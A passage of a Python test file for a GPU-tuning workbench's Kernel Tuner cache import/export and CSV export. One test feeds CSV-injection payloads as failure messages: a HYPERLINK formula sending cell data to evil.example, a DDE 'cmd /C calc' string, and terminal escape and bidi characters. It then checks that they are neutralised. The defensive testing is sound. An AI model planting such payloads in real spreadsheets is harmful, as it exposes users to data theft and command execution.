"""Kernel Tuner cache import/export and CSV export (workbench.core.io.interop)."""

from __future__ import annotations

import csv
import gzip
import json
import math
from datetime import datetime, timezone
from pathlib import Path

import numpy as np
import pytest

from workbench.core.errors import SessionFormatError, WorkbenchError
from workbench.core.io.interop import KT_READING, export_csv, export_kt_cache, guess_group, import_kt_cache, render_csv
from workbench.core.domain.measurement import Measurement, Status, Trial
from workbench.core.domain.session import Session, load_session, save_session
from workbench.core.domain.space import Config, SearchSpace, Slot

ROOT = Path(__file__).resolve().parents[1]


def synthetic(new_style: bool) -> dict:
    """A small cache in either failure encoding: error in ``time`` (<=1.3) or ``__error__`` (1.4+)."""

    def failure(name: str) -> dict:
        return {"__error__": name} if new_style else {"time": name}

    records = {
        "32,1,0": {"block_size_x": 32, "tile": 1, "use_shmem": 0, "time": 2.0, "times": [2.1, 1.9, 2.0, 2.2, 1.8],
                   "compile_time": 500.0, "verification_time": 0, "benchmark_time": 40.0, "GFLOP/s": 100.0,
                   "timestamp": "2024-01-02 03:04:05.000000+00:00"},
        "64,1,0": {"block_size_x": 64, "tile": 1, "use_shmem": 0, "time": 1.0, "GFLOP/s": 200.0, "GB/s": 50.5,
                   "reg_count": 40},
        "64,2,1": {"block_size_x": 64, "tile": 2, "use_shmem": 1, **failure("CompilationFailedConfig"),
                   "compile_time": 20.0},
        "128,2,1": {"block_size_x": 128, "tile": 2, "use_shmem": 1, **failure("RuntimeFailedConfig")},
        "128,4,0": {"block_size_x": 128, "tile": 4, "use_shmem": 0, **failure("InvalidConfig")},
    }
    return {
        "device_name": "NVIDIA Test GPU",
        "kernel_name": "vector_add",
        "problem_size": [1024, 512],
        "tune_params_keys": ["block_size_x", "tile", "use_shmem"],
        "tune_params": {"block_size_x": [32, 64, 128], "tile": [1, 2, 4], "use_shmem": [0, 1]},
        "objective": "time",
        "cache": records,
    }


def write(tmp_path: Path, data, name: str = "cache.json") -> Path:
    path = tmp_path / name
    path.write_text(data if isinstance(data, str) else json.dumps(data))
    return path


@pytest.mark.parametrize("new_style", [False, True])
def test_import_synthetic_cache_both_failure_encodings(tmp_path: Path, new_style: bool) -> None:
    session = import_kt_cache(write(tmp_path, synthetic(new_style)))
    assert session.kind == "recording" and session.kernel == "vector_add"
    assert session.device == {"name": "NVIDIA Test GPU", "simulated": False, "recorded": True, "kt_reading": KT_READING}
    assert session.problem == {"problem_size_x": 1024, "problem_size_y": 512}
    assert [t.status for t in session.trials] == [
        Status.OK, Status.OK, Status.COMPILE_ERROR, Status.RUNTIME_ERROR, Status.SKIPPED,
    ]
    assert [t.measurement.message for t in session.trials[2:]] == [
        "CompilationFailedConfig", "RuntimeFailedConfig", "InvalidConfig",
    ]
    first, second = session.trials[0], session.trials[1]
    assert first.metric("latency_ms") == 2.0 and first.metric("gflops") == 100.0
    assert first.metric("latency_p20_ms") == pytest.approx(1.88) and first.metric("latency_p80_ms") == pytest.approx(2.12)
    assert first.timings["compile_s"] == pytest.approx(0.5) and first.timings["total_s"] == pytest.approx(0.54)
    assert first.finished_at == pytest.approx(1704164645.0) and first.started_at == pytest.approx(1704164645.0 - 0.54)
    assert second.metric("throughput_gbs") == 50.5 and second.metric("reg_count") == 40
    assert session.trials[2].timings["compile_s"] == pytest.approx(0.02)
    assert session.space is not None and session.space.is_explicit and session.space.count() == 5
    assert [t.index for t in session.trials] == list(range(5))
    assert session.rank().best == 1


def test_each_record_keeps_its_own_spread_whatever_the_other_records_repeat(tmp_path: Path) -> None:
    """Percentiles are computed in bulk per repetition count; each record must still get its own."""
    data = synthetic(True)
    records = data["cache"]
    records["32,1,0"]["times"] = [3.0, 1.0, 2.0]
    records["64,1,0"]["times"] = [5.0, 4.0, 1.0, 2.0, 3.0, float("nan"), True, "x"]  # five usable
    records["64,2,1"] = {"block_size_x": 64, "tile": 2, "use_shmem": 1, "time": 7.0, "times": [7.0]}
    session = import_kt_cache(write(tmp_path, json.dumps(data)))
    first, second, third = session.trials[:3]
    assert (first.metric("latency_p20_ms"), first.metric("latency_p80_ms")) == pytest.approx((1.4, 2.6))
    assert (second.metric("latency_p20_ms"), second.metric("latency_p80_ms")) == pytest.approx((1.8, 4.2))
    assert third.metric("latency_ms") == 7.0 and "latency_p20_ms" not in third.measurement.metrics


def test_a_point_recorded_twice_keeps_its_last_record_and_says_so(tmp_path: Path) -> None:
    """Both records became trials of one config, so the session ranked a config twice while a
    replay of it answered with the last record only; the import now keeps the last, with a note."""
    data = synthetic(True)
    data["cache"]["32,1,0.0"] = {"block_size_x": 32, "tile": 1, "use_shmem": 0, "time": 3.0}
    notes: list[str] = []
    session = import_kt_cache(write(tmp_path, data), notes)
    assert session.space is not None and session.space.count() == 5 and len(session.trials) == 5
    assert [t.config for t in session.trials] == list(session.space.points)
    last = session.trials[-1]
    assert last.config == Config({"block_size_x": 32, "tile": 1, "use_shmem": 0}) and last.measurement.metrics["latency_ms"] == 3.0
    assert [t.index for t in session.trials] == list(range(5))
    assert notes == [f"{tmp_path / 'cache.json'}: 1 record of a config recorded again later in the file dropped, "
                     "the last record of each kept (cache['32,1,0'] gave way to cache['32,1,0.0'])"]


def test_a_negative_zero_reads_as_zero(tmp_path: Path) -> None:
    """``-0.0`` and ``0.0`` are one config: the kept record (the later ``0.0``) was labelled
    ``-0.0``, the value of the record dropped, and a header export wrote ``#define a -0.0``."""
    data = {"device_name": "x", "kernel_name": "k", "tune_params_keys": ["a"],
            "tune_params": {"a": [-0.0, 0.0, 1.5]},
            "cache": {"1": {"a": -0.0, "time": 1.0}, "2": {"a": 0.0, "time": 2.0}, "3": {"a": 1.5, "time": 3.0}}}
    session = import_kt_cache(write(tmp_path, data))
    assert [repr(t.config["a"]) for t in session.trials] == ["0.0", "1.5"]
    assert session.trials[0].metric("latency_ms") == 2.0
    assert session.space is not None and [repr(v) for v in session.space.slots[0].values] == ["0.0", "1.5"]


def test_group_guesses() -> None:
    assert [guess_group(n) for n in ("block_size_x", "grid_div_y", "num_threads")] == ["launch"] * 3
    assert [guess_group(n) for n in ("tile_size_x", "use_shmem", "use_padding", "read_only", "vector_width")] == [
        "memory"
    ] * 5
    assert [guess_group(n) for n in ("loop_unroll_factor", "fast_math", "between_method")] == ["compute"] * 3
    assert [guess_group(n) for n in ("reduce_strategy", "use_atomics")] == ["reduction"] * 2
    assert guess_group("filter_width") == "compute"


def test_import_gzip_and_unfinished_files(tmp_path: Path) -> None:
    text = json.dumps(synthetic(False), indent=1)
    gz = tmp_path / "cache.json.gz"
    gz.write_bytes(gzip.compress(text.encode()))
    assert len(import_kt_cache(gz).trials) == 5
    anonymous = synthetic(False)
    anonymous.pop("kernel_name", None)
    gz.write_bytes(gzip.compress(json.dumps(anonymous).encode()))
    assert import_kt_cache(gz).kernel == "cache"  # named after the file without .json.gz, not "cache.json"
    # Kernel Tuner leaves the file open-ended while it runs: "...}," without the closing braces
    unfinished = text.rstrip()[: -len("}\n}")].rstrip() + ","
    assert len(import_kt_cache(write(tmp_path, unfinished, "running.json")).trials) == 5


def _as_kernel_tuner_writes_it(data: dict) -> str:
    """A cache laid out as Kernel Tuner writes one while it runs: the header, then one line per
    record ending in "," (the object is closed only when the run ends)."""
    head = json.dumps({k: v for k, v in data.items() if k != "cache"}, indent=1)[:-2]
    lines = [f"{json.dumps(key)}: {json.dumps(record)}," for key, record in data["cache"].items()]
    return head + ',\n"cache": {\n' + "\n".join(lines) + "\n"


def test_a_cache_missing_only_its_last_brace_or_written_on_windows_keeps_every_whole_record(tmp_path: Path) -> None:
    """A file lacking only its final "}" lost its last (whole) record, said to be cut; a cut file
    with Windows line endings was refused as invalid JSON."""
    text = json.dumps(synthetic(False), indent=1)
    for missing in (1, 2):  # the last brace, and a newline before it
        notes: list[str] = []
        cut = text.rstrip()[:-missing] if missing == 1 else text.rstrip()[:-1].rstrip()
        assert len(import_kt_cache(write(tmp_path, cut, "open.json"), notes).trials) == 5
        assert not any("ends inside a record" in note for note in notes), notes
    windows = _as_kernel_tuner_writes_it(synthetic(False)).replace("\n", "\r\n")
    last_record = windows.rstrip().rfind("\r\n")
    notes = []
    session = import_kt_cache(write(tmp_path, windows[: last_record + 14], "killed_on_windows.json"), notes)
    assert [t.config["block_size_x"] for t in session.trials] == [32, 64, 64, 128]
    assert any("ends inside a record" in note for note in notes), notes


def test_a_cache_cut_inside_a_record_keeps_the_whole_records_before_it_and_says_so(tmp_path: Path) -> None:
    """A run killed during a write (or a full disk) leaves the file ending inside a record: the
    whole records before it are read and a note says one record was left out. A file cut inside
    its first record has none to read and is refused in one line."""
    text = _as_kernel_tuner_writes_it(synthetic(False))
    last_record = text.rstrip().rfind("\n")
    for cut_at in (last_record + 12, len(text.rstrip()) - 3):  # inside the key, inside the record
        notes: list[str] = []
        session = import_kt_cache(write(tmp_path, text[:cut_at], "killed.json"), notes)
        assert [t.config["block_size_x"] for t in session.trials] == [32, 64, 64, 128]
        assert any("ends inside a record" in note and "4 complete records" in note for note in notes), notes
    gz = tmp_path / "killed.json.gz"
    gz.write_bytes(gzip.compress(text[: last_record + 12].encode()))
    assert len(import_kt_cache(gz).trials) == 4
    notes = []
    assert len(import_kt_cache(write(tmp_path, text, "running.json"), notes).trials) == 5  # whole: closed
    assert any("unfinished" in note and "5 complete records" in note for note in notes), notes
    first_record = text.index('"cache": {') + 20
    with pytest.raises(SessionFormatError, match=r"killed\.json: not valid JSON \(line"):
        import_kt_cache(write(tmp_path, text[:first_record], "killed.json"))


def test_a_whole_cache_with_more_after_it_is_refused_not_read_as_cut(tmp_path: Path) -> None:
    """No run leaves data after the cache's closing brace; read as a file cut short, it lost its
    last record (the best one here) without a word of truth. Refused in one line, plain or gzipped
    (a second gzip member is more data too)."""
    data = synthetic(False)
    text = json.dumps(data, indent=1)
    for extra in ("x", "\n{}", "\n}"):
        with pytest.raises(SessionFormatError, match=r"extra\.json: more data after the end of the cache \(line \d+"):
            import_kt_cache(write(tmp_path, text + extra, "extra.json"))
    gz = tmp_path / "extra.json.gz"
    gz.write_bytes(gzip.compress(text.encode()) + gzip.compress(b"junk"))
    with pytest.raises(SessionFormatError, match="more data after the end of the cache"):
        import_kt_cache(gz)
    assert len(import_kt_cache(write(tmp_path, text + "\n\n", "extra.json")).trials) == 5  # whitespace is no data
    # padding is no data either: NULs where a crash left blocks unwritten, an old editor's Ctrl-Z
    assert len(import_kt_cache(write(tmp_path, text + "\x00" * 64 + "\x1a", "extra.json")).trials) == 5
    # a file that is no cache at all is not called one
    with pytest.raises(SessionFormatError, match="not valid JSON") as info:
        import_kt_cache(write(tmp_path, '{"a": 1}\n{"b": 2}\n', "lines.json"))
    assert "cache" not in str(info.value).split(":", 1)[1].split("(")[0]


def test_record_without_params_uses_the_cache_key(tmp_path: Path) -> None:
    data = synthetic(False)
    for record in data["cache"].values():
        for key in data["tune_params_keys"]:
            record.pop(key)
    session = import_kt_cache(write(tmp_path, data))
    assert session.trials[1].config == Config({"block_size_x": 64, "tile": 1, "use_shmem": 0})


@pytest.mark.parametrize(
    "mutate, fragment",
    [
        (lambda d: d.pop("cache"), "cache: missing, not a Kernel Tuner cache file"),
        (lambda d: d.update(tune_params_keys="block_size_x"), "tune_params_keys: expected a list"),
        (lambda d: d["tune_params"].update(tile=[]), "tune_params.tile: expected a non-empty list"),
        (lambda d: d["tune_params"].update(tile=[[1]]), "tune_params.tile: [1] is not a number"),
        (lambda d: d["cache"]["32,1,0"].update(time=None), "cache['32,1,0'].time: None is neither a time"),
        (lambda d: d["cache"]["32,1,0"].pop("time"), "cache['32,1,0'].time: missing"),
        (lambda d: d["cache"]["64,1,0"].update(tile=math.inf), "cache['64,1,0'].tile: inf is not a finite number"),
        (lambda d: d["cache"]["64,1,0"].update(tile=math.nan), "cache['64,1,0'].tile: nan is not a finite number"),
        (lambda d: d["cache"].clear(), "cache: no records, nothing to import"),
        (lambda d: d["cache"].update(bad=[1]), "cache['bad']: expected an object, got list"),
        (lambda d: d["cache"].update({"1,2,3": {"time": 1.0}}), "cache['1,2,3']: no value for parameter 'block_size_x'"),
        (lambda d: d["cache"].update(bad={"time": 1.0}), "cache['bad']: the key has 1 comma-separated values"),
    ],
)
def test_bad_cache_files_are_explained(tmp_path: Path, mutate, fragment: str) -> None:
    data = synthetic(False)
    mutate(data)
    with pytest.raises(SessionFormatError) as info:
        import_kt_cache(write(tmp_path, data))
    assert fragment in str(info.value) and "\n" not in str(info.value)


def test_unreadable_cache_files(tmp_path: Path) -> None:
    with pytest.raises(SessionFormatError, match="no such file"):
        import_kt_cache(tmp_path / "none.json")
    with pytest.raises(SessionFormatError, match="not valid JSON"):
        import_kt_cache(write(tmp_path, "{definitely not"))
    with pytest.raises(SessionFormatError, match="the file is empty"):
        import_kt_cache(write(tmp_path, ""))
    with pytest.raises(SessionFormatError, match="workbench session; open it instead"):
        import_kt_cache(write(tmp_path, {"format": "kernel-workbench-session", "trials": []}))


def test_mixed_int_float_parameters_and_undeclared_values(tmp_path: Path) -> None:
    data = synthetic(False)
    data["tune_params"]["tile"] = [1, 2.5, 4]  # one slot type: all floats
    data["tune_params"]["block_size_x"] = [32, 64]  # 128 recorded but not declared
    session = import_kt_cache(write(tmp_path, data))
    tile = session.space.slot("tile")
    assert tile.values == (1.0, 2.0, 2.5, 4.0)
    assert session.space.slot("block_size_x").values == (32, 64, 128)
    assert session.trials[0].config["tile"] == 1.0 and isinstance(session.trials[0].config["tile"], float)
    assert session.space.count() == 5


def test_latency_is_the_median_of_the_repetitions_and_kernel_tuners_time_is_kept_beside_it(tmp_path: Path) -> None:
    """Kernel Tuner's ``time`` is the mean of its repetitions (one slow run drags it up, out of
    the repetitions' p20..p80 band); the workbench's ``latency_ms`` is their median, inside it."""
    data = synthetic(False)
    records = data["cache"]
    records["32,1,0"].update({"time": 2.0, "times": [1.0] * 9 + [11.0]})  # mean 2.0, median 1.0
    records["64,2,1"] = {"block_size_x": 64, "tile": 2, "use_shmem": 1, "time": 1.7, "times": [1.6]}
    records["128,2,1"] = {"block_size_x": 128, "tile": 2, "use_shmem": 1, "time": 0.9, "times": [0.0, 0.0]}
    first, second, third, fourth = import_kt_cache(write(tmp_path, data)).trials[:4]
    assert first.metric("latency_ms") == 1.0 and first.metric("kt_time_ms") == 2.0
    assert first.metric("latency_p20_ms") <= first.metric("latency_ms") <= first.metric("latency_p80_ms")
    assert first.metric("latency_p80_ms") < first.metric("kt_time_ms")
    # no repetitions: Kernel Tuner's time is the only figure, and it is both
    assert second.metric("latency_ms") == 1.0 == second.metric("kt_time_ms")
    # one repetition: it is the median; no band
    assert third.metric("latency_ms") == 1.6 and third.metric("kt_time_ms") == 1.7
    assert "latency_p20_ms" not in third.measurement.metrics
    # repetitions of 0 ms are no time (as a 0 ms time is none): Kernel Tuner's time stands
    assert fourth.metric("latency_ms") == 0.9 == fourth.metric("kt_time_ms")
    assert "latency_p20_ms" not in fourth.measurement.metrics


def test_export_writes_kernel_tuners_own_time_back(tmp_path: Path) -> None:
    """Kernel Tuner reading an exported recording sees the time it recorded, not the median."""
    data = synthetic(False)
    data["cache"]["32,1,0"].update({"time": 2.0, "times": [1.0, 1.0, 1.0, 1.0, 6.0]})
    session = import_kt_cache(write(tmp_path, data))
    export_kt_cache(session, tmp_path / "out.json")
    records = json.loads((tmp_path / "out.json").read_text())["cache"]
    assert records["32,1,0"]["time"] == 2.0 and records["64,1,0"]["time"] == 1.0
    # a session the workbench measured has no Kernel Tuner time: its latency is written
    space = SearchSpace([Slot("b", (1, 2))])
    own = Session(kernel="k", kind="template", space=space, device={"name": "GPU"})
    own.add(Trial(0, space.config({"b": 1}), Measurement(Status.OK, {"latency_ms": 0.25})))
    export_kt_cache(own, tmp_path / "own.json")
    assert json.loads((tmp_path / "own.json").read_text())["cache"]["1"]["time"] == 0.25
    # its band of repetitions goes beside it and comes back with an import (it was left out)
    own.add(Trial(1, space.config({"b": 2}), Measurement(
        Status.OK, {"latency_ms": 0.5, "latency_p20_ms": 0.45, "latency_p80_ms": 0.6})))
    export_kt_cache(own, tmp_path / "own.json")
    back = {t.config["b"]: t.measurement.metrics for t in import_kt_cache(tmp_path / "own.json").trials}
    assert (back[2]["latency_ms"], back[2]["latency_p20_ms"], back[2]["latency_p80_ms"]) == (0.5, 0.45, 0.6)
    assert back[1]["latency_ms"] == 0.25 and "latency_p20_ms" not in back[1]


def test_unknown_error_names_and_bad_times_become_runtime_errors(tmp_path: Path) -> None:
    data = synthetic(False)
    data["cache"]["32,1,0"]["time"] = "SomeNewError"
    data["cache"]["64,1,0"]["time"] = -1.0
    data["cache"]["32,2,0"] = {"block_size_x": 32, "tile": 2, "use_shmem": 0, "time": 0.0}  # nothing takes no time
    trials = import_kt_cache(write(tmp_path, data)).trials
    assert trials[0].status is Status.RUNTIME_ERROR and trials[0].measurement.message == "SomeNewError"
    assert trials[1].status is Status.RUNTIME_ERROR and "-1.0" in trials[1].measurement.message
    zero = next(t for t in trials if t.config["block_size_x"] == 32 and t.config["tile"] == 2)
    assert zero.status is Status.RUNTIME_ERROR and "recorded time 0.0" in zero.measurement.message


def test_imported_session_saves_and_loads(tmp_path: Path) -> None:
    session = import_kt_cache(write(tmp_path, synthetic(True)))
    save_session(session, tmp_path / "s.json")
    loaded = load_session(tmp_path / "s.json")
    assert loaded.trials == session.trials and loaded.space == session.space
    assert loaded.extra["kernel_tuner"]["problem_size"] == [1024, 512]


@pytest.mark.parametrize("new_style", [False, True])
def test_export_then_import_round_trip(tmp_path: Path, new_style: bool) -> None:
    session = import_kt_cache(write(tmp_path, synthetic(new_style)))
    assert export_kt_cache(session, tmp_path / "out.json") == 5
    data = json.loads((tmp_path / "out.json").read_text())
    assert data["problem_size"] == [1024, 512] and data["tune_params_keys"] == ["block_size_x", "tile", "use_shmem"]
    assert data["cache"]["64,2,1"]["time"] == "CompilationFailedConfig"
    assert data["cache"]["32,1,0"]["compile_time"] == pytest.approx(500.0)
    back = import_kt_cache(tmp_path / "out.json")
    for a, b in zip(session.trials, back.trials):
        assert (a.config, a.status, a.measurement.message) == (b.config, b.status, b.measurement.message)
        assert a.metric("latency_ms") == b.metric("latency_ms") or math.isnan(a.metric("latency_ms"))
        assert a.metric("gflops") == b.metric("gflops") or math.isnan(a.metric("gflops"))


@pytest.mark.parametrize("new_style", [False, True])
def test_an_error_name_and_a_time_stamp_of_the_year_1_survive_the_round_trip(tmp_path: Path, new_style: bool) -> None:
    """An error name Kernel Tuner has and this workbench does not (a later version's) came back as
    ``RuntimeFailedConfig``, and a stamp of the first hours of the year 1 in a zone ahead of UTC,
    which an import reads, was left out of the export (UTC cannot write it)."""
    data = synthetic(new_style)
    failure = {"__error__": "ConfigTimeoutError"} if new_style else {"time": "ConfigTimeoutError"}
    data["cache"]["128,2,1"] = {"block_size_x": 128, "tile": 2, "use_shmem": 1, **failure}
    data["cache"]["64,1,0"]["timestamp"] = "0001-01-01T03:00:00+05:00"
    session = import_kt_cache(write(tmp_path, data))
    assert export_kt_cache(session, tmp_path / "out.json") == 5
    written = json.loads((tmp_path / "out.json").read_text())["cache"]
    assert written["128,2,1"]["time"] == "ConfigTimeoutError"
    assert written["64,2,1"]["time"] == "CompilationFailedConfig"  # the names it knows, as before
    back = import_kt_cache(tmp_path / "out.json")
    for a, b in zip(session.trials, back.trials):
        assert (a.config, a.status, a.measurement.message, a.finished_at) == (b.config, b.status,
                                                                              b.measurement.message, b.finished_at)
    assert session.trials[1].finished_at == datetime.fromisoformat("0001-01-01T03:00:00+05:00").timestamp()
    # a failure whose mark names nothing is written by its status, not by the import's words for it
    data["cache"]["128,2,1"] = {"block_size_x": 128, "tile": 2, "use_shmem": 1, "__error__": " "}
    unnamed = import_kt_cache(write(tmp_path, data, "unnamed.json"))
    export_kt_cache(unnamed, tmp_path / "unnamed_out.json")
    assert json.loads((tmp_path / "unnamed_out.json").read_text())["cache"]["128,2,1"]["time"] == "RuntimeFailedConfig"


def _workbench_session() -> Session:
    slots = (Slot("block_size", (64, 128), "launch"), Slot("strategy", ("atomic", "tree"), "reduction"))
    space = SearchSpace(slots)
    configs = list(space)
    session = Session(kernel="reduce", space=space, problem={"n": 4096}, device={"name": "A100", "simulated": True})
    session.add(Trial(0, configs[0], Measurement(Status.OK, {"latency_ms": 1.5, "memory_mb": 8.0}), 1.0, 2.0,
                      {"compile_s": 0.1}))
    session.add(Trial(1, configs[1], Measurement.failure(Status.TIMEOUT, "exceeded run timeout, of 10 s")))
    session.add(Trial(2, configs[2], Measurement.failure(Status.WRONG_RESULT, "max error 3e-2 > 1e-4")))
    session.add(Trial(3, configs[3], Measurement(Status.OK, {"quality": 1.0})))  # no latency: not expressible
    session.add(Trial(4, configs[1], Measurement(Status.OK, {"latency_ms": 2.5})))  # the same config, ok later
    return session


def test_export_workbench_session_maps_statuses(tmp_path: Path) -> None:
    session = _workbench_session()
    assert export_kt_cache(session, tmp_path / "kt.json") == 3
    data = json.loads((tmp_path / "kt.json").read_text())
    assert data["device_name"] == "A100" and data["kernel_name"] == "reduce" and data["problem_size"] == 4096
    cache = data["cache"]
    assert cache["64,atomic"]["time"] == 1.5 and cache["64,atomic"]["compile_time"] == pytest.approx(100.0)
    assert cache["64,tree"]["time"] == 2.5  # the ok measurement wins over the earlier timeout
    assert cache["128,atomic"]["time"] == "RuntimeFailedConfig"
    back = import_kt_cache(tmp_path / "kt.json")
    # (the record's own status, beside Kernel Tuner's nearest error name: see the test below)
    assert [t.status for t in back.trials] == [Status.OK, Status.OK, Status.WRONG_RESULT]
    # a simulated session's figures stay labelled as a model's, and its other metrics come back
    # (only time, GFLOP/s and GB/s were written: memory, registers, quality were lost on the trip)
    assert data["workbench_simulated"] is True and back.device["simulated"] is True
    assert back.trials[0].metric("memory_mb") == 8.0
    session.device = {"name": "A100", "simulated": False}
    export_kt_cache(session, tmp_path / "measured.json")
    assert "workbench_simulated" not in json.loads((tmp_path / "measured.json").read_text())
    assert import_kt_cache(tmp_path / "measured.json").device["simulated"] is False


def test_export_csv(tmp_path: Path) -> None:
    session = _workbench_session()
    assert export_csv(session, tmp_path / "t.csv") == 5
    with open(tmp_path / "t.csv", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["index", "id", "status", "block_size", "strategy", "latency_ms", "memory_mb", "quality", "message",
                       "provenance"]
    # every row says where its figures come from, as every other view labels a simulated session
    assert rows[1] == ["0", session.trials[0].config.id, "ok", "64", "atomic", "1.5", "8.0", "", "", "simulated"]
    assert rows[2][2] == "timeout" and rows[2][-2] == "exceeded run timeout, of 10 s"
    assert len(rows) == 6
    session.device = {"name": "A100", "recorded": True}
    export_csv(session, tmp_path / "r.csv")
    assert {row[-1] for row in list(csv.reader(open(tmp_path / "r.csv", newline="")))[1:]} == {"recorded"}


def test_failures_keep_their_status_reason_and_latency_bound_through_a_kernel_tuner_cache(tmp_path: Path) -> None:
    """Kernel Tuner's error names lose a failure's reason, and it has none for a timing aborted
    above a latency limit: the export wrote such a candidate as InvalidConfig, which read back as
    a skipped (invalid) config without its reason or bound, and said nothing of it."""
    session = _workbench_session()
    aborted = Measurement(Status.ABORTED, {"latency_bound_ms": 3.25}, "aborted above 3.25 ms: over 1.5 x the limit")
    session.add(Trial(5, list(session.space)[3], aborted))
    notes: list[str] = []
    export_kt_cache(session, tmp_path / "kt.json", notes)
    record = json.loads((tmp_path / "kt.json").read_text())["cache"]["128,tree"]
    assert record["time"] == "InvalidConfig" and record["workbench_status"] == "aborted"
    assert any("1 aborted trial is written as InvalidConfig" in note for note in notes), notes
    back = {t.config.id: t for t in import_kt_cache(tmp_path / "kt.json").trials}
    again = back[session.trials[5].config.id]
    assert again.status is Status.ABORTED and again.measurement.message == aborted.message
    assert again.metric("latency_bound_ms") == 3.25
    wrong = back[session.trials[2].config.id]
    assert wrong.status is Status.WRONG_RESULT and wrong.measurement.message == "max error 3e-2 > 1e-4"
    # a record Kernel Tuner wrote (no such fields) reads as before
    data = json.loads((tmp_path / "kt.json").read_text())
    for record in data["cache"].values():
        for field in ("workbench_status", "workbench_message", "latency_bound_ms"):
            record.pop(field, None)
    (tmp_path / "kt.json").write_text(json.dumps(data))
    plain = {t.config.id: t for t in import_kt_cache(tmp_path / "kt.json").trials}
    assert plain[session.trials[5].config.id].status is Status.SKIPPED
    assert plain[session.trials[2].config.id].measurement.message == "RuntimeFailedConfig"
    # what a file holds there is read as one inert line, and only beside an error name
    records = list(data["cache"].values())
    failed = next(r for r in records if isinstance(r["time"], str))
    failed.update(workbench_status="wrong_result", workbench_message="line one\nline\x1b[31m two\u202e")
    ok = next(r for r in records if not isinstance(r["time"], str))
    ok.update(latency_bound_ms=3.0, workbench_status="aborted")
    (tmp_path / "kt.json").write_text(json.dumps(data))
    read = import_kt_cache(tmp_path / "kt.json").trials
    message = next(t for t in read if t.status is Status.WRONG_RESULT).measurement.message
    assert message.isprintable() and message.startswith("line one line")
    assert all(t.status is Status.OK and math.isnan(t.metric("latency_bound_ms")) for t in read if t.ok)



def test_a_csv_cell_never_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
    """A failure message is the benchmark's (or a file's) text: ``=HYPERLINK(...)`` there was a live
    formula in the exported table."""
    space = SearchSpace([Slot("block_size", (64, 128), "launch")])
    session = Session(kernel="reduce", space=space, device={"name": "A100", "simulated": True})
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2",
               "=1+1", "a=b stays as it is"]
    for i, message in enumerate(hostile):
        session.add(Trial(i, space.config({"block_size": 64}), Measurement.failure(Status.RUNTIME_ERROR, message)))
    export_csv(session, tmp_path / "t.csv")
    with open(tmp_path / "t.csv", newline="") as handle:
        cells = [row[-2] for row in list(csv.reader(handle))[1:]]
    assert cells[:5] == ["'" + m for m in hostile[:5]] and cells[5] == "a=b stays as it is"
    # control and bidi characters are written as escapes: no ESC reaches a terminal, no line break
    # hides a formula after an innocent first line
    for i, message in enumerate(("x\n\x1b[2J=cmd \u202eevil", "\n=1+1"), 9):  # as a file may hold them
        session.add(Trial(i, space.config({"block_size": 128}), Measurement(Status.RUNTIME_ERROR, message=message)))
    text = render_csv(session)
    assert "\x1b" not in text and "\u202e" not in text
    rows = list(csv.reader(text.splitlines()))
    assert rows[-2][-2] == "x\\n\\x1b[2J=cmd \\u202eevil" and rows[-1][-2] == "\\n=1+1"


def test_a_sweeps_text_problem_values_never_become_formulas(tmp_path: Path) -> None:
    """A sweep's ``problem.NAME`` columns hold what the session file says, text included: a mode of
    ``=1+2`` was written as a live formula while the message beside it was made inert. Numbers,
    negative ones too, stay numbers."""
    space = SearchSpace([Slot("block_size", (64, 128), "launch")])
    session = Session(kernel="reduce", space=space, device={"name": "A100", "simulated": True},
                      problem={"n": 1024, "mode": "=1+2", "shift": -3})
    for i, problem in enumerate([{"n": 1024, "mode": "=1+2", "shift": -3},
                                 {"n": 4096, "mode": "@SUM(A1)", "shift": -4}]):
        session.add(Trial(i, space.config({"block_size": 64}), Measurement(Status.OK, {"latency_ms": 1.0 + i}),
                          problem=problem))
    export_csv(session, tmp_path / "t.csv")
    with open(tmp_path / "t.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["problem.mode"] for r in rows] == ["'=1+2", "'@SUM(A1)"]
    assert [r["problem.shift"] for r in rows] == ["-3", "-4"] and [r["problem.n"] for r in rows] == ["1024", "4096"]

# --- the real recorded landscapes (read in place, never copied) -----------------------------------


def test_import_real_convolution_a100(landscape) -> None:
    path = landscape("convolution_A100.json")
    session = import_kt_cache(path)
    statuses = [t.status for t in session.trials]
    assert len(statuses) == 4362
    assert statuses.count(Status.RUNTIME_ERROR) == 155 and statuses.count(Status.COMPILE_ERROR) == 6
    assert session.device["name"] == "NVIDIA A100-PCIE-40GB" and session.device["recorded"] is True
    groups = {s.name: s.group for s in session.space.slots}
    assert groups["block_size_x"] == "launch" and groups["tile_size_y"] == "memory" and groups["use_shmem"] == "memory"
    raw = json.loads(path.read_text())["cache"]
    fastest = min(r["time"] for r in raw.values() if isinstance(r["time"], float))
    ranking = session.rank()
    best = session.trials[ranking.best]
    assert best.metric("kt_time_ms") == fastest  # here the fastest median is also Kernel Tuner's fastest
    times = next(r["times"] for r in raw.values() if r["time"] == fastest)
    assert best.metric("latency_ms") == pytest.approx(float(np.median(times)))
    ok = [t for t in session.trials if t.ok]
    # Kernel Tuner's time is the mean of 32 repetitions, most often outside their p20..p80 band;
    # the median the workbench calls latency_ms never is
    assert sum(t.metric("latency_p20_ms") <= t.metric("kt_time_ms") <= t.metric("latency_p80_ms") for t in ok) < len(ok) / 2
    assert all(t.metric("latency_p20_ms") <= t.metric("latency_ms") <= t.metric("latency_p80_ms") for t in ok)
    assert ranking.n_feasible == 4201
    assert all(t.metric("gflops") > 0 for t in session.trials if t.ok)


def figures(session: Session, name: str) -> list[float | None]:
    """Each ok trial's ``name`` (None where it has none), comparable with ``==``."""
    return [value if math.isfinite(value := t.metric(name)) else None for t in session.trials if t.ok]


def test_import_real_pnpoly_and_export_round_trip(tmp_path: Path, landscape) -> None:
    session = import_kt_cache(landscape("pnpoly_RTX_3090.json"))
    assert len(session.trials) == 4092
    assert sum(t.status is Status.RUNTIME_ERROR for t in session.trials) == 330
    assert session.problem == {"problem_size": 20000000}
    assert export_kt_cache(session, tmp_path / "pnpoly.json") == 4092
    back = import_kt_cache(tmp_path / "pnpoly.json")
    assert [(t.config, t.status) for t in back.trials] == [(t.config, t.status) for t in session.trials]
    # Kernel Tuner's own time goes back as `time`, the repetitions' median and percentiles beside
    # it: the file read again has the same figures and ranks the same (the repetitions are not
    # written, so a file read back had `time`, the mean, as its latency)
    for name in ("kt_time_ms", "latency_ms", "latency_p20_ms", "latency_p80_ms"):
